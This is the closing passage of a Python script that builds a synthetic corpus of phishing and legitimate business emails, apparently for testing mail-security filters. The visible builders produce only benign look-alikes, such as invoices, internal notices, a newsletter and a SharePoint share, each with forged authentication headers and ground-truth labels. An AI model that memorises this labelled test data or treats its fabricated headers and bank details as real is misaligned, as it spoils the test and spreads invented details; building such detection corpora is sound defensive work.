        "Wachttijd laadadres (2 uur)                                                  90,00 EUR", "",
        "Totaal excl. BTW 1.470,00 EUR - BTW verlegd", "Te betalen: 1.470,00 EUR binnen 45 dagen op NL20 RABO 0312 4471 86",
    ], "Factuur 20250877")
    plain = ("Geachte heer/mevrouw,\n\nIn de bijlage treft u factuur 20250877 aan voor het transport Rotterdam - Rennes van 31 juli.\n\n"
             "Wij verzoeken u het bedrag van EUR 1.470,00 binnen 45 dagen over te maken op het rekeningnummer dat op de factuur staat.\n\n"
             "Met vriendelijke groet,\n\nVan der Linde Transport B.V.\nadministratie@vanderlindetransport.nl\n")
    html = "<html><body style=\"font-family:Arial;font-size:10pt\">" + plain.replace("\n", "<br>\n") + "</body></html>\n"
    ip = f"185.60.{num(stem, 240, 243)}.{num(stem + 'x', 10, 250)}"
    helo = "smtp-out-ams.exactonline.nl"
    body = Multi("mixed", f"--boundary_{num(stem, 0, 9)}_{guid(stem + 'b')}", [
        alt(plain, html, f"--boundary_{num(stem + 'a', 0, 9)}_{guid(stem + 'a')}"),
        attachment("application/pdf", "Factuur_20250877.pdf", doc),
    ])
    headers = "\n".join([
        fold(f"Received: from ams-eol-app031 (10.24.{num(stem + 'a1', 1, 200)}.{num(stem + 'a2', 1, 200)}) by {helo} with Microsoft SMTP Server id 15.2.1544.4; {rfc(t)}"),
        dkim("exactonline.nl", "exact", t, "From:To:Subject:Date:Message-ID:Reply-To:MIME-Version:Content-Type", stem),
        "From: " + addr("Van der Linde Transport B.V.", "noreply@exactonline.nl", quote=True),
        "Reply-To: administratie@vanderlindetransport.nl",
        f"To: {rcpt}",
        "Subject: Factuur 20250877 van Van der Linde Transport B.V.",
        f"Date: {rfc(t)}",
        f"Message-ID: <{guid(stem + 'mid')}@exactonline.nl>",
        "MIME-Version: 1.0",
        "X-Mailer: Exact Online",
    ])
    deliver(stem, "clean",
            "Genuine Dutch carrier invoice sent from the Exact Online accounting platform (From noreply@exactonline.nl with Reply-To to the carrier's own domain) with the PDF invoice and unchanged bank details.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="exactonline.nl", dkims=[("pass", "exactonline.nl")],
            from_dom="exactonline.nl", dmarc="pass", compauth="pass", reason="100", headers=headers, body=body, attach=True,
            return_path="<noreply@exactonline.nl>")


def l_it_maintenance() -> None:
    stem = "b51-legit-it-maintenance"
    t = paris("2025-09-17 16:02:48")
    paras = [
        "Bonjour à tous,",
        "",
        "Une maintenance des serveurs est programmée le <b>samedi 20 septembre de 7h00 à 12h00</b> :",
        "",
        "- le VPN et l'accès distant au TMS seront coupés pendant toute la durée de l'intervention ;",
        "- la messagerie Microsoft 365 et Teams restent disponibles ;",
        "- les terminaux embarqués des conducteurs continueront d'envoyer leurs positions, qui seront intégrées au TMS à la reprise.",
        "",
        "L'exploitation de permanence samedi matin dispose d'un poste sur site en secours (bureau 12).",
        "",
        "Rappel : le service informatique ne vous demandera jamais votre mot de passe, ni par e-mail ni par téléphone, et n'envoie"
        " pas de liens pour « libérer des messages en quarantaine ». En cas de doute, appelez le 4410.",
        "",
        "Merci de votre compréhension,",
    ]
    sig = ["<b>Thomas Perrin</b>", "Responsable des systèmes d'information", "Kerlann Industries - ZI Sud-Est - 35000 Rennes", "Tél. 02 99 41 44 10"]
    html = outlook_html(paras, sig, charset="iso-8859-1")
    plain = strip_tags(html)
    server = "AS8PR08MB9967.eurprd08.prod.outlook.com"
    headers = "\n".join([
        "From: Thomas Perrin <thomas.perrin@kerlann-industries.fr>",
        "To: Tous Kerlann <tous@kerlann-industries.fr>",
        subject("Maintenance informatique samedi 20/09 de 7h à 12h - coupure VPN et TMS", "iso-8859-1", "Q"),
        "Thread-Topic: " + ew("Maintenance informatique samedi 20/09 de 7h à 12h - coupure VPN et TMS", "iso-8859-1", "Q"),
        "Thread-Index: " + thread_index(stem, t, 0),
        f"Date: {rfc(utc(t))}",
        f"Message-ID: {outlook_msgid(stem, server)}",
        "Accept-Language: fr-FR, en-US",
        "Content-Language: fr-FR",
        "X-MS-TNEF-Correlator:",
    ])
    internal(stem, "clean",
             "Genuine internal IT notice from the IT manager's real kerlann-industries.fr mailbox announcing a Saturday maintenance window, with no links and a reminder that IT never asks for passwords.",
             t=t, headers=headers,
             body=alt(plain, html, f"_000_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", "quoted-printable", "iso-8859-1"))


def l_rh_mutuelle_reunion() -> None:
    stem = "b51-legit-rh-mutuelle-reunion"
    t = paris("2025-11-13 11:51:06")
    doc = pdf_doc([
        "KERLANN INDUSTRIES - Ressources humaines", "", "Notice d'information - Complementaire sante collective 2026", "",
        "Organisme assureur : Mutuelle partenaire (contrat collectif obligatoire)", "Date d'effet des nouvelles garanties : 1er janvier 2026", "",
        "Principales evolutions :", " - Optique : forfait porte a 250 EUR tous les 2 ans", " - Dentaire : implantologie prise en charge a hauteur de 600 EUR/an",
        " - Teleconsultation incluse", "", "Cotisation salarie (base isole) : 38,40 EUR / mois", "",
        "Les cartes de tiers payant 2026 seront envoyees a votre domicile par l'assureur.",
        "Aucune demarche en ligne n'est necessaire pour conserver vos beneficiaires.",
    ], "Notice mutuelle 2026")
    paras = [
        "Bonjour à toutes et à tous,",
        "",
        "Les garanties de notre complémentaire santé évoluent au 1er janvier 2026. Vous trouverez en pièce jointe la notice"
        " d'information à conserver.",
        "",
        "Une réunion d'information aura lieu le <b>jeudi 27 novembre à 13h30</b> en salle Vilaine (et sur Teams pour les agences"
        " de Saint-Malo et Lorient). Le représentant de l'assureur répondra à vos questions.",
        "",
        "Les nouvelles cartes de tiers payant seront envoyées directement à votre domicile. Vous n'avez aucune démarche à"
        " faire en ligne : si vous recevez un message vous demandant de vous connecter pour « confirmer vos bénéficiaires »,"
        " ne cliquez pas et transférez-le au service informatique.",
        "",
        "Bonne journée,",
    ]
    sig = ["<b>Gwenaëlle Riou</b>", "Responsable Ressources Humaines", "Kerlann Industries", "Tél. 02 99 41 44 22"]
    html = outlook_html(paras, sig, charset="utf-8")
    plain = strip_tags(html)
    server = "DBBPR08MB6201.eurprd08.prod.outlook.com"
    body = Multi("mixed", f"_004_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", [
        alt(plain, html, f"_000_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", "quoted-printable", "utf-8"),
        attachment("application/pdf", "Notice_mutuelle_2026.pdf", doc),
    ])
    headers = "\n".join([
        "From: " + addr(*K["rh"]),
        "To: Tous Kerlann <tous@kerlann-industries.fr>",
        subject("Mutuelle 2026 : nouvelles garanties et réunion d'information le 27/11", "utf-8", "Q"),
        "Thread-Topic: " + ew("Mutuelle 2026 : nouvelles garanties et réunion d'information le 27/11", "utf-8", "Q"),
        "Thread-Index: " + thread_index(stem, t, 0),
        f"Date: {rfc(utc(t))}",
        f"Message-ID: {outlook_msgid(stem, server)}",
        "Accept-Language: fr-FR, en-US",
        "Content-Language: fr-FR",
        "X-MS-TNEF-Correlator:",
    ])
    internal(stem, "clean",
             "Genuine internal HR announcement from the HR manager's real mailbox about the 2026 company health insurance, with the notice PDF attached, an information meeting and no login link.",
             t=t, headers=headers, body=body, attach=True)


def l_tlf_newsletter() -> None:
    stem = "b51-legit-tlf-newsletter"
    t = paris("2025-12-11 08:30:00")
    rcpt = mail("ceo")
    u, lid = hx(stem + "u", 25), hx(stem + "id", 10)

    def trk(n: int) -> str:
        return f"https://e-tlf.us14.list-manage.com/track/click?u={u}&id={hx(stem + 'c' + str(n), 10)}&e={hx(stem + 'e', 10)}"

    items = [
        ("Loi de finances 2026 : ce qui change pour le transport et la logistique", "Remboursement partiel de TICPE, fiscalité des poids lourds, taxe sur les entrepôts : nos équipes font le point."),
        ("ZFE-m : le calendrier des restrictions pour les véhicules utilitaires en 2026", "Rennes, Nantes, Lyon : les métropoles précisent leurs dérogations pour la livraison."),
        ("Fraude au virement : la TLF publie un guide avec la Gendarmerie nationale", "Changement de RIB, faux présidents, usurpation de bourses de fret : les bons réflexes à diffuser dans vos équipes."),
    ]
    blocks = "\n".join(
        f'<tr><td style="padding:0 30px 22px 30px"><h2 style="font-size:17px;color:#003b71;margin:0 0 6px 0">{a}</h2>'
        f'<p style="font-size:14px;line-height:21px;margin:0 0 6px 0">{b}</p><a href="{trk(i)}" style="color:#e3000f;font-weight:bold;font-size:13px">Lire la suite</a></td></tr>'
        for i, (a, b) in enumerate(items, 1))
    html = f"""<!doctype html>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
<head><meta charset="UTF-8"><meta http-equiv="X-UA-Compatible" content="IE=edge"><meta name="viewport" content="width=device-width, initial-scale=1"><title>La Lettre de l'Union TLF</title></head>
<body style="height:100%;margin:0;padding:0;width:100%;background-color:#f2f2f2">
<center><table align="center" border="0" cellpadding="0" cellspacing="0" height="100%" width="100%" id="bodyTable" style="background-color:#f2f2f2">
<tr><td align="center" valign="top" id="bodyCell" style="padding:10px">
<table border="0" cellpadding="0" cellspacing="0" width="600" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif;color:#222">
<tr><td style="padding:10px 30px;font-size:11px;color:#888;text-align:right"><a href="https://us14.campaign-archive.com/?e={hx(stem + 'e', 10)}&u={u}&id={lid}" style="color:#888">Voir ce courriel dans votre navigateur</a></td></tr>
<tr><td style="padding:20px 30px;background:#003b71;color:#fff"><b style="font-size:22px">Union TLF</b><br><span style="font-size:13px">La Lettre d'information - D&eacute;cembre 2025</span></td></tr>
<tr><td style="height:22px"></td></tr>
{blocks}
<tr><td style="padding:16px 30px;background:#eef3f8;font-size:13px">Agenda : Assembl&eacute;e r&eacute;gionale TLF Ouest, 15 janvier 2026, Rennes - <a href="{trk(4)}" style="color:#003b71">s'inscrire</a></td></tr>
<tr><td style="padding:18px 30px;font-size:11px;color:#777;line-height:17px">Union des Entreprises Transport et Logistique de France (Union TLF) - 5 rue Vernet, 75008 Paris<br>
Vous recevez cette lettre en tant qu'adh&eacute;rent de l'Union TLF.<br>
<a href="https://e-tlf.us14.list-manage.com/unsubscribe?u={u}&id={lid}&e={hx(stem + 'e', 10)}&c={hx(stem + 'cc', 10)}" style="color:#777">Se d&eacute;sinscrire</a> &middot; <a href="https://e-tlf.us14.list-manage.com/profile?u={u}&id={lid}&e={hx(stem + 'e', 10)}" style="color:#777">Mettre &agrave; jour vos pr&eacute;f&eacute;rences</a></td></tr>
</table></td></tr></table></center>
<img src="https://e-tlf.us14.list-manage.com/track/open.php?u={u}&id={hx(stem + 'o', 10)}&e={hx(stem + 'e', 10)}" height="1" width="1" alt="">
</body></html>
"""
    plain = strip_tags(html)
    ip = f"198.2.{num(stem, 128, 191)}.{num(stem + 'x', 10, 250)}"
    helo = f"mail{num(stem + 'm', 100, 250)}.suw{num(stem + 's', 11, 21)}.mcdlv.net"
    headers = "\n".join([
        fold(f"Received: from localhost (localhost [127.0.0.1]) by {helo} (Postfix) with ESMTP id {postfix_qid(stem)} for <{rcpt}>; "
             f"{rfc(utc(t))} (GMT)").replace("\n ", "\n\t"),
        dkim("mail134.suw11.mcdlv.net", "k2", t, "Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC",
             stem, c="relaxed/relaxed").replace("d=mail134.suw11.mcdlv.net", f"d=mcsv.net"),
        dkim("e-tlf.fr", "k1", t, "Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC",
             stem + "2"),
        subject("La Lettre de l'Union TLF - Décembre 2025", "utf-8", "Q"),
        "From: " + addr("Union TLF", "communication@e-tlf.fr", quote=True),
        "Reply-To: Union TLF <communication@e-tlf.fr>",
        f"To: <{rcpt}>",
        f"Date: {rfc(utc(t))}",
        f"Message-ID: <{hx(stem + 'mid', 20)}.{hx(stem + 'mid2', 10)}@mail{num(stem + 'm', 100, 250)}.suw{num(stem + 's', 11, 21)}.mcdlv.net>",
        f"List-ID: {u}mc list <{u}.{num(stem + 'li', 100000, 999999)}.list-id.mcsv.net>",
        f"List-Unsubscribe: <https://e-tlf.us14.list-manage.com/unsubscribe?u={u}&id={lid}&t=b&e={hx(stem + 'e', 10)}&c={hx(stem + 'cc', 10)}>,\n <mailto:unsubscribe-mc.us14_{u}.{hx(stem + 'cc', 10)}-{hx(stem + 'e', 10)}@unsubscribe.mailchimpapp.net?subject=unsubscribe>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"X-Mailer: MailChimp Mailer - **CID{hx(stem + 'cid', 20)}**",
        f"X-Campaign: mailchimp{u}.{hx(stem + 'cc', 10)}",
        f"X-campaignid: mailchimp{u}.{hx(stem + 'cc', 10)}",
        "X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u=" + u + "&id=" + hx(stem + "cc", 10) + "&e=" + hx(stem + "e", 10),
        f"X-MC-User: {u}",
        f"Feedback-ID: {num(stem + 'fb', 10000000, 99999999)}:{num(stem + 'fb2', 10000000, 99999999)}.{num(stem + 'fb3', 100000, 999999)}:us14:mc",
        "Precedence: bulk",
        "X-Accounttype: pd",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "bulk",
            "Genuine monthly newsletter of the trade body Union TLF sent to a member through Mailchimp (e-tlf.fr signature, list-manage.com click tracking, list headers and one-click unsubscribe).",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom=f"mail{num(stem + 'm', 100, 250)}.suw{num(stem + 's', 11, 21)}.mcdlv.net",
            dkims=[("pass", "mcsv.net"), ("pass", "e-tlf.fr")], from_dom="e-tlf.fr", dmarc="pass", compauth="pass",
            reason="100", headers=headers, body=alt(plain, html, f"_----------=_MCPart_{num(stem, 100000000, 999999999)}"),
            return_path=f"<bounce-mc.us14_{num(stem + 'rp', 10000000, 99999999)}.{num(stem + 'rp2', 1000000, 9999999)}-{rcpt.replace('@', '=')}@mail{num(stem + 'm', 100, 250)}.suw{num(stem + 's', 11, 21)}.mcdlv.net>")


def l_perso_photos() -> None:
    stem = "b51-legit-perso-photos"
    t = paris("2026-04-13 20:47:15")
    rcpt = mail("import")
    lines = [
        "Coucou Claire,",
        "",
        "Voici quelques photos du week-end à Erquy ! Le temps était quand même incroyable pour un mois d'avril.",
        "Les autres sont sur l'album partagé, je t'enverrai le lien quand Mathieu aura fini de trier les siennes.",
        "",
        "On remet ça en juin ? Nolwenn propose le 14.",
        "",
        "Bises,",
        "Élodie",
    ]
    hop, host, ip, sigs = gmail_parts(stem, t, rcpt, "elodie.gautier56@gmail.com")
    body = Multi("mixed", f"000000000000{hx(stem + 'm', 16)}", [
        alt("\n".join(lines) + "\n", gmail_html(lines), f"000000000000{hx(stem + 'b', 16)}", "quoted-printable", "UTF-8"),
        Leaf("image/jpeg", files.photo_jpeg(51), "base64", '; name="IMG_20260411_183204.jpg"',
             'attachment; filename="IMG_20260411_183204.jpg"', [f"Content-ID: <f_{hx(stem + 'a1', 9)}>", f"X-Attachment-Id: f_{hx(stem + 'a1', 9)}"]),
        Leaf("image/jpeg", files.photo_jpeg(52), "base64", '; name="IMG_20260412_104517.jpg"',
             'attachment; filename="IMG_20260412_104517.jpg"', [f"Content-ID: <f_{hx(stem + 'a2', 9)}>", f"X-Attachment-Id: f_{hx(stem + 'a2', 9)}"]),
    ])
    headers = "\n".join([
        hop, sigs,
        "MIME-Version: 1.0",
        "From: " + addr("Élodie Gautier", "elodie.gautier56@gmail.com", "UTF-8"),
        f"Date: {rfc(t)}",
        f"Message-ID: {gmail_msgid(stem)}",
        subject("Photos du week-end à Erquy", "UTF-8", "Q"),
        f"To: Claire Hamon <{rcpt}>",
    ])
    deliver(stem, "clean",
            "Personal mail from a friend's gmail.com account to an employee's work address with two holiday photos (JPEG) attached and no links.",
            t=t, helo=host, ip=ip, spf="pass", mailfrom="gmail.com", dkims=[("pass", "gmail.com")], from_dom="gmail.com",
            dmarc="pass", compauth="pass", reason="100", headers=headers, body=body, attach=True,
            return_path="<elodie.gautier56@gmail.com>")


def l_sharepoint_client() -> None:
    stem = "b51-legit-sharepoint-client"
    t = paris("2025-10-09 14:12:38")
    rcpt = mail("exploit")
    link = ("https://laiteriebroceliande.sharepoint.com/:x:/s/Logistique/E" + b64url(stem + "sp", 33) +
            "?e=" + b64url(stem + "e", 5)[:6])
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0"><table role="presentation" cellpadding="0" cellspacing="0" style="max-width:520px;font-family:'Segoe UI',Tahoma,sans-serif">
<tr><td style="padding:24px 24px 12px 24px;font-size:21px;color:#242424">Marion L&eacute;cuyer a partag&eacute; un fichier avec vous</td></tr>
<tr><td style="padding:0 24px 18px 24px;font-size:14px;color:#424242">Voici le planning des enl&egrave;vements de la semaine 42, avec les deux tourn&eacute;es suppl&eacute;mentaires du jeudi.</td></tr>
<tr><td style="padding:0 24px"><table cellpadding="0" cellspacing="0" style="border:1px solid #e0e0e0;border-radius:4px;width:100%"><tr>
<td style="padding:14px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20250905.001/assets/item-types/48/xlsx.png" width="32" alt=""></td>
<td style="padding:14px 14px 14px 0;font-size:14px;color:#242424"><b>Planning_enlevements_S42.xlsx</b></td></tr></table></td></tr>
<tr><td style="padding:20px 24px"><a href="{link}" style="background:#0f6cbd;color:#ffffff;text-decoration:none;padding:8px 18px;border-radius:4px;font-size:14px">Ouvrir</a></td></tr>
<tr><td style="padding:8px 24px 24px 24px;font-size:12px;color:#707070">Ce lien ne fonctionne que pour les destinataires directs de ce message.<br><br>
<img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20250905.001/assets/brand-icons/product/png/microsoft_32x1.png" width="70" alt="Microsoft"> &nbsp;<a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#707070">D&eacute;claration de confidentialit&eacute;</a></td></tr>
</table></body></html>
"""
    plain = (f"Marion Lécuyer a partagé un fichier avec vous\n\nVoici le planning des enlèvements de la semaine 42, avec les deux"
             f" tournées supplémentaires du jeudi.\n\nPlanning_enlevements_S42.xlsx\n\nOuvrir <{link}>\n\n"
             "Ce lien ne fonctionne que pour les destinataires directs de ce message.\n\nDéclaration de confidentialité <https://go.microsoft.com/fwlink/?LinkId=521839>\n")
    server = "AM7PR83MB0452.EURPRD83.prod.outlook.com"
    hop, helo, ip, sigs = m365_sender(stem, t, "sharepointonline.com", server, rcpt, sel="selector1")
    headers = "\n".join([
        hop, sigs,
        "From: " + addr("Marion Lécuyer", "no-reply@sharepointonline.com", "utf-8", "B"),
        f"To: {addr(*K['exploit'])}",
        subject("Marion Lécuyer a partagé « Planning_enlevements_S42 » avec vous", "utf-8", "B"),
        f"Date: {rfc(utc(t))}",
        f"Message-ID: <{guid(stem + 'mid')}@odspnotify>",
        "Reply-To: " + addr("Marion Lécuyer", "m.lecuyer@laiteriebroceliande.fr", "utf-8", "B"),
        "X-MS-Has-Attach:",
        "X-MS-TNEF-Correlator:",
        "x-ms-publictraffictype: Email",
        "X-ODSP-Notification-Type: SharingLinkNotification",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "clean",
            "Genuine SharePoint sharing notification from a dairy client's tenant (sent by no-reply@sharepointonline.com via Microsoft, Reply-To the sharer) for a weekly pickup-planning spreadsheet on laiteriebroceliande.sharepoint.com.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="sharepointonline.com", dkims=[("pass", "sharepointonline.com")],
            from_dom="sharepointonline.com", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(plain, html, f"_000_{guid(stem + 'bd')}_", "quoted-printable", "utf-8"),
            return_path="<no-reply@sharepointonline.com>")


# ============================================================================================
# Main
# ============================================================================================

BUILDERS = [
    # attacks
    a_maersk_bl_draft, a_cmacgm_arrival_iso, a_msc_release_hold, a_hapag_waybill_smuggling, a_dhl_droits_douane,
    a_chronopost_livraison, a_tnt_invoice_js, a_fedex_adresse_qr,
    a_douane_delta_rejet, a_eori_expiration, a_impots_credit_tva, a_urssaf_mise_en_demeure, a_tva_intracom_vies,
    a_totalenergies_fleet, a_ulys_prelevement, a_dkv_cockpit_de, a_as24_prelevement_sepa,
    a_ca_securipass, a_bnp_rappel_fraude, a_sogecash_html, a_cic_factor_subrogation, a_qonto_kyc,
    a_teleroute_acces, a_timocom_nachricht, a_b2pweb_ipfs,
    a_sharepoint_partenaire, a_messagerie_vocale, a_docusign_abus,
    a_quarantaine_directsend, a_bulletin_paie_lookalike, a_rib_salaire_rh, a_mutuelle_beneficiaires, a_mfa_qr_pdf,
    a_rib_fournisseur_lookalike, a_thread_facture_armor, a_nl_bankgegevens, a_es_factura_cuenta, a_chorus_pro_lookalike,
    a_president_acquisition, a_president_dispo,
    a_recrutement_offre, a_candidature_cv_lnk,
    a_frachtraten_xll, a_releve_compte_vbs,
    a_quota_boite_gsites, a_cmacgm_salesforce, a_dhl_facture_html, a_sitl_liste_visiteurs, a_domaine_cn,
    a_nl_offerteaanvraag,
    # legitimate look-alikes
    l_maersk_arrival_notice, l_cmacgm_facture, l_hapag_draft_swb, l_dhl_droits_taxes, l_chronopost_predict, l_fedex_facture,
    l_douane_eori, l_impots_messagerie, l_urssaf_attestation, l_totalenergies_facture, l_ulys_releve, l_dkv_facture,
    l_ca_document, l_qonto_virement, l_chorus_pro_statut,
    l_teleroute_alerte, l_timocom_newsletter, l_rib_rappel_fournisseur, l_es_factura, l_nl_factuur_exact,
    l_it_maintenance, l_rh_mutuelle_reunion, l_tlf_newsletter, l_perso_photos, l_sharepoint_client,
]


def main() -> None:
    for old in MAIL.glob(f"*/b{N}-*.eml"):
        old.unlink()
    SAMPLES.clear()
    for build in BUILDERS:
        build()
    stems = [s[0] for s in SAMPLES]
    assert len(stems) == len(set(stems)) == 75, (len(stems), len(set(stems)))
    attacks = [s for s in SAMPLES if s[0].startswith(f"b{N}-phish-")]
    legit = [s for s in SAMPLES if s[0].startswith(f"b{N}-legit-")]
    assert len(attacks) == 50 and len(legit) == 25, (len(attacks), len(legit))
    manifest = []
    for stem, folder, desc, raw in SAMPLES:
        assert folder in ("phishing", "malware", "clean", "bulk"), folder
        if stem.startswith(f"b{N}-phish-"):
            assert folder in ("phishing", "malware"), stem
        else:
            assert folder in ("clean", "bulk"), stem
        msg = BytesParser(policy=policy.default).parsebytes(raw)
        for name in ("From", "To", "Subject", "Date", "Message-ID"):
            assert msg[name], f"{stem}: missing {name}"
        assert b"@@BH" not in raw, stem
        path = MAIL / folder / f"{stem}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        manifest.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {desc}")
    MANIFEST.write_text("\n".join(manifest) + "\n", encoding="utf-8")
    counts: dict[str, int] = {}
    for _, folder, _, _ in SAMPLES:
        counts[folder] = counts.get(folder, 0) + 1
    print(f"wrote {len(SAMPLES)} messages: " + ", ".join(f"{k}={v}" for k, v in sorted(counts.items())))
    print(f"manifest: {MANIFEST.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
